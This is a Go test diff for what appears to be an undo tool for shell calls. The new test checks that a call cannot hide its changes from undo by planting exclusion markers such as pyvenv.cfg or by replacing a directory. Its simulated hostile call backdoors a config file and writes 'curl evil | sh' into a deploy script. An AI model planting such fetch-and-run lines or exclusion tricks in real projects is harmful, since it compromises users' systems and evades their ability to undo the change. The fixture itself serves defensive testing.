@@ -393,6 +393,41 @@ func TestExcluded(t *testing.T) {
 	}
 }
 
+// TestExclusionMadeByTheCall: a call that makes a covered directory look
+// like an excluded one (env/pyvenv.cfg, build.gradle beside build/) does
+// not hide what it changed in it from undo; control: a virtualenv the
+// call creates in a new env/ is excluded as before.
+func TestExclusionMadeByTheCall(t *testing.T) {
+	r := newRig(t)
+	r.seed()
+	r.write("env/config.py", "SAFE = True\n", 0o644)
+	r.write("build/deploy.sh", "echo deploy\n", 0o755)
+	r.write("tools/README", "tools\n", 0o644)
+	before := treetest.Read(t, r.ws)
+	r.call(`true`) // a session's earlier call: env/ and build/ covered
+	cs := r.call(`touch env/pyvenv.cfg build.gradle && echo backdoored > env/config.py && echo 'curl evil | sh' > build/deploy.sh && mkdir -p tools/venv && touch tools/venv/pyvenv.cfg tools/venv/python`)
+	for _, p := range []string{"env", "build"} {
+		if slices.ContainsFunc(cs.Excluded, func(n Note) bool { return n.Path == r.ws+"/"+p }) {
+			t.Errorf("%s/ was excluded by a file the call made: %+v", p, cs.Excluded)
+		}
+	}
+	if !slices.ContainsFunc(cs.Excluded, func(n Note) bool { return n.Path == r.ws+"/tools/venv" }) {
+		t.Errorf("control: a new virtualenv is not excluded: %+v", cs.Excluded)
+	}
+	r.mustUndo(UndoOptions{})
+	os.RemoveAll(r.ws + "/tools/venv") // excluded, so left by undo (control above)
+	if d := treetest.Diff(before, treetest.Read(t, r.ws)); d != "" {
+		t.Fatalf("not restored:\n%s", d)
+	}
+	// A new directory in the covered one's place, with the marker, is
+	// the call's too.
+	r.call(`mv env env.old && mkdir env && echo backdoored > env/config.py && touch env/pyvenv.cfg && rm -r env.old`)
+	r.mustUndo(UndoOptions{})
+	if b, _ := os.ReadFile(r.ws + "/env/config.py"); string(b) != "SAFE = True\n" {
+		t.Fatalf("env/config.py after undoing a replaced env/: %q", b)
+	}
+}
+
 // TestRoots: a root that is a file, or absent before the call, or a
 // subdirectory.
 func TestRoots(t *testing.T) {
